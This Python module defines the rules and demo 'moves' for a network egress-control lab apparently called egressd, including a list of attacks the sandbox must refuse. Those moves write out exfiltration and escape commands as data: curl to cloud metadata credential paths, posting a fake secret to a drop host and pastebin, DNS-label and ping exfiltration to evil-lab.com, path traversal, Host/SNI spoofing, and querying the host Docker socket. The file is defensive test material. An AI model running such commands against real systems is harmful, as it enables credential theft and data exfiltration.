"""What the demo tries: the rules it lives under, the names it adds to the lab, and the moves.

What must come of a move is asked of the rules themselves, by `requests`. Only where no REQUEST can say what is tried (a datagram,
a lie about a name, what a name resolves to) a move states the record that must be found, and the law that it rests on.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

from egressd.lab import topology
from egressd.lab.stand import HERE

RULES = """\
schema: 1
profile: lab
owner: demo
allow:
  - service: pypi
  - service: github-clone
    with: {repos: ["acme/*"]}
  - id: api
    hosts: [api.lab-origin.com]
    requests: ["GET,HEAD /v1/**", "POST /v1/messages", "GET /sse", "GET /big", "GET /redirect"]
  - id: keyed
    hosts: [keyed.lab-origin.com]
    requests: ["GET /v1/models"]
    credential: keyed-api
  - id: website
    hosts: [www.lab-origin.com]
  - id: partner
    hosts: [partner.lab-origin.com]
deny:
  - id: drop-box
    hosts: [drop.lab-origin.com]
    because: a place for handing data to strangers
tests:
  - {allow: "POST https://api.lab-origin.com/v1/messages", rule: api}
  - {deny: "GET https://drop.lab-origin.com/", rule: drop-box}
"""

KEYED = "keyed.lab-origin.com"
CREDENTIALS = f"""\
schema: 1
credentials:
  keyed-api:
    for: [{{hosts: [{KEYED}], requests: ["GET /v1/models"]}}]
    source: {{file: {HERE}/secrets/keyed-api}}
    attach: {{header: x-api-key}}
"""
"""The sandbox calls an API that asks for a key, and holds none."""

NAMES: dict[str, dict[str, Any]] = {
    KEYED: {"a": [topology.API]},
    "drop.lab-origin.com": {"a": [topology.API]},
    "partner.lab-origin.com": {"a": [topology.METADATA]},
    "metadata.google.internal": {"a": [topology.METADATA]},
    "dns.google": {"a": [topology.ATTACKER_RESOLVER]},
}
"""Names of the demo's own: `Lab.set_name` takes them. A partner's name that leads to the metadata endpoint is one of them."""

DOCKER = "{docker}"
"""Stands in an argument list for the path of the host's Docker socket."""

_METADATA = f"http://{topology.METADATA}/latest/meta-data/iam/security-credentials/"
_SECRET = "secret=AKIALABLABLABLABLAB0"  # noqa: S105 (it is the lab's)
_HEX = "534543524554"
_SECRET_IN_LABELS = f"{_HEX}.{_HEX}.x.evil-lab.com"


@dataclass(frozen=True, slots=True)
class Ruling:
    """The denial of what no REQUEST can say: its record's layer and reason, the law it rests on, and the record's event.

    Layer and reason are None for what never becomes an attempt, so that there is nothing to write down.
    """

    layer: str | None
    reason: str | None
    law: str
    event: str = "decision"


@dataclass(frozen=True, slots=True)
class Move:
    """One thing to try. `tool`, `argv` and `wants` are the driver's; `requests` are what `egressd explain` takes.

    With a `ruling`, what the requests say is allowed by the rules, and the move is refused all the same.
    """

    title: str
    tool: str
    argv: tuple[str, ...]
    wants: str = ""
    requests: tuple[str, ...] = ()
    ruling: Ruling | None = None


_API = "https://api.lab-origin.com"
_FILES = "https://files.pythonhosted.org/packages/lab"

WELCOME: tuple[Move, ...] = (
    Move(
        "curl: read from an allowed API",
        "curl",
        (f"{_API}/v1/models",),
        "lab-model",
        (f"GET {_API}/v1/models",),
    ),
    Move(
        "curl: an API that asks for a key, with none",
        "curl",
        (f"https://{KEYED}/v1/models",),
        "lab-model",
        (f"GET https://{KEYED}/v1/models",),
    ),
    Move(
        "curl: POST to its one allowed path",
        "curl",
        ("-d", '{"messages": []}', f"{_API}/v1/messages"),
        "assistant",
        (f"POST {_API}/v1/messages",),
    ),
    Move(
        "curl: a stream of events",
        "curl",
        ("-N", f"{_API}/sse?events=5&gap=0.2"),
        "stream:0.3",
        (f"GET {_API}/sse",),
    ),
    Move(
        "curl: a download of 20 MB",
        "curl",
        (f"{_API}/big?bytes=20000000",),
        "bytes:20000000",
        (f"GET {_API}/big",),
    ),
    Move(
        "curl: the same API by HTTP proxy",
        "curl",
        ("-x", "http://127.0.0.1:3128", f"{_API}/v1/models"),
        "lab-model",
        (f"GET {_API}/v1/models",),
    ),
    Move(
        "dig: the address of an allowed name",
        "dig",
        ("api.lab-origin.com",),
        "198.18.",
        ("dns:api.lab-origin.com",),
    ),
    Move(
        "git clone: a repository of acme",
        "git",
        ("clone", "https://github.com/acme/tools"),
        "",
        (
            "GET https://github.com/acme/tools/info/refs?service=git-upload-pack",
            "POST https://github.com/acme/tools/git-upload-pack",
        ),
    ),
    Move(
        "pip install: a package and what it needs",
        "pip",
        ("lab-hello",),
        "lab_greeting.py",
        (
            "GET https://pypi.org/simple/lab-hello/",
            f"GET {_FILES}/lab_hello-1.0-py3-none-any.whl",
            "GET https://pypi.org/simple/lab-greeting/",
            f"GET {_FILES}/lab_greeting-1.0-py3-none-any.whl",
        ),
    ),
)
"""Moves that the rules allow."""

_LAW_3 = "law 3: the four names must agree"
_LAW_4 = "law 4: what was checked is what is dialled"
_PACKETS = "only TCP and DNS leave a sandbox"
_OUT_OF_SIGHT = "host sockets are out of sight, so there is no attempt to record"

FORBIDDEN: tuple[Move, ...] = (
    Move("curl: cloud metadata by its address", "curl", (_METADATA,), "lab-role", (f"GET {_METADATA}",)),
    Move(
        "curl: cloud metadata by its name",
        "curl",
        ("http://metadata.google.internal/computeMetadata/v1/token",),
        "lab-token",
        ("dns:metadata.google.internal",),
    ),
    Move(
        "curl: an allowed name that leads to metadata",
        "curl",
        ("https://partner.lab-origin.com/computeMetadata/v1/token",),
        "lab-token",
        ("GET https://partner.lab-origin.com/computeMetadata/v1/token",),
        Ruling("request", "floor_metadata", _LAW_4, "end"),
    ),
    Move(
        "curl: an allowed redirect to metadata",
        "curl",
        ("-L", f"{_API}/redirect?to={_METADATA}"),
        "lab-role",
        (f"GET {_API}/redirect", f"GET {_METADATA}"),
    ),
    Move(
        "curl: an address without a name",
        "curl",
        (f"http://{topology.ATTACKER}/",),
        "owned",
        (f"GET http://{topology.ATTACKER}/",),
    ),
    Move(
        "curl: an IPv6 address",
        "curl",
        (f"http://[{topology.ATTACKER_V6}]/",),
        "owned",
        (f"GET http://[{topology.ATTACKER_V6}]/",),
    ),
    Move(
        "curl: a name that no rule knows",
        "curl",
        ("https://evil-lab.com/",),
        "owned",
        ("GET https://evil-lab.com/",),
    ),
    Move(
        "curl: a name that the profile denies",
        "curl",
        ("-d", _SECRET, "https://drop.lab-origin.com/upload"),
        "sha256",
        ("POST https://drop.lab-origin.com/upload",),
    ),
    Move(
        "curl: a paste site, denied to everybody",
        "curl",
        ("-d", _SECRET, "https://pastebin.com/api/api_post.php"),
        "sha256",
        ("POST https://pastebin.com/api/api_post.php",),
    ),
    Move(
        "curl: another port of an allowed name",
        "curl",
        (f"{_API}:8443/v1/models",),
        "lab-model",
        (f"GET {_API}:8443/v1/models",),
    ),
    Move(
        "curl: http where the rule says https",
        "curl",
        ("http://api.lab-origin.com/v1/models",),
        "lab-model",
        ("GET http://api.lab-origin.com/v1/models",),
    ),
    Move(
        "curl: POST where only GET is allowed",
        "curl",
        ("-d", _SECRET, "https://www.lab-origin.com/upload"),
        "sha256",
        ("POST https://www.lab-origin.com/upload",),
    ),
    Move(
        "curl: a path outside the rule",
        "curl",
        (f"{_API}/admin/keys",),
        "target",
        (f"GET {_API}/admin/keys",),
    ),
    Move(
        "curl: out of an allowed path by dots",
        "curl",
        ("--path-as-is", f"{_API}/v1/%2e%2e/admin/keys"),
        "target",
        (f"GET {_API}/v1/%2e%2e/admin/keys",),
    ),
    Move(
        "curl: another Host inside allowed TLS",
        "curl",
        ("-H", "Host: www.evil-lab.com", f"{_API}/v1/models"),
        "lab-model",
        (f"GET {_API}/v1/models",),
        Ruling("request", "authority_mismatch", _LAW_3),
    ),
    Move(
        "curl: TLS for another name than dialled",
        "curl",
        ("--connect-to", "www.evil-lab.com:443:api.lab-origin.com:443", "https://www.evil-lab.com/v1/models"),
        "lab-model",
        (f"GET {_API}/v1/models",),
        Ruling("connection", "sni_mismatch", _LAW_3),
    ),
    Move(
        "git clone: another owner's repository",
        "git",
        ("clone", "https://github.com/mallory/loot"),
        "",
        ("GET https://github.com/mallory/loot/info/refs?service=git-upload-pack",),
    ),
    Move(
        "git push: to the repository that may be read",
        "git",
        ("push", "https://github.com/acme/tools", "main:stolen"),
        "",
        ("GET https://github.com/acme/tools/info/refs?service=git-receive-pack",),
    ),
    Move(
        "pip install: from an attacker's index",
        "pip",
        ("--index-url", "https://pypi.mallory-lab.com/simple", "lab-greeting"),
        "lab_greeting.py",
        ("GET https://pypi.mallory-lab.com/simple/lab-greeting/",),
    ),
    Move(
        "dig: data in the labels of a name",
        "dig",
        ("TXT", _SECRET_IN_LABELS),
        "orders",
        (f"dns:{_SECRET_IN_LABELS}/TXT",),
    ),
    Move(
        "dig: the same by another resolver",
        "dig",
        (f"@{topology.ATTACKER_RESOLVER}", "A", _SECRET_IN_LABELS),
        topology.ATTACKER,
        (f"dns:{_SECRET_IN_LABELS}/A",),
    ),
    Move(
        "dig: another resolver over TCP",
        "dig",
        ("+tcp", f"@{topology.ATTACKER}", "A", "tcp.evil-lab.com"),
        topology.ATTACKER,
        ("dns:tcp.evil-lab.com/A",),
    ),
    Move(
        "curl: DNS over HTTPS",
        "curl",
        ("https://dns.google/dns-query?dns=AAABAAABAAAAAAAABGV2aWwDbGFiAAABAAE",),
        "owned",
        ("GET https://dns.google/dns-query",),
    ),
    Move(
        "tcp: port 22 of an allowed name",
        "tcp",
        ("github.com", "22"),
        "SSH-2.0-lab",
        ("tcp://github.com:22",),
    ),
    Move(
        "udp: port 443, where QUIC lives",
        "udp",
        (topology.ATTACKER, "443"),
        "owned",
        ruling=Ruling("packet", "protocol_not_allowed", _PACKETS),
    ),
    Move(
        "udp: a datagram over IPv6",
        "udp",
        (topology.ATTACKER_V6, "4433"),
        "owned",
        ruling=Ruling("packet", "protocol_not_allowed", _PACKETS),
    ),
    Move(
        "ping: data in echo requests",
        "ping",
        ("-p", _HEX, topology.ATTACKER),
        "bytes from",
        ruling=Ruling("packet", "protocol_not_allowed", _PACKETS),
    ),
    Move(
        "curl: the host's Docker socket",
        "curl",
        ("--unix-socket", DOCKER, "http://localhost/containers/json"),
        "production-database",
        ruling=Ruling(None, None, _OUT_OF_SIGHT),
    ),
)
"""Moves that must be refused; each of them succeeds where there is no egressd."""
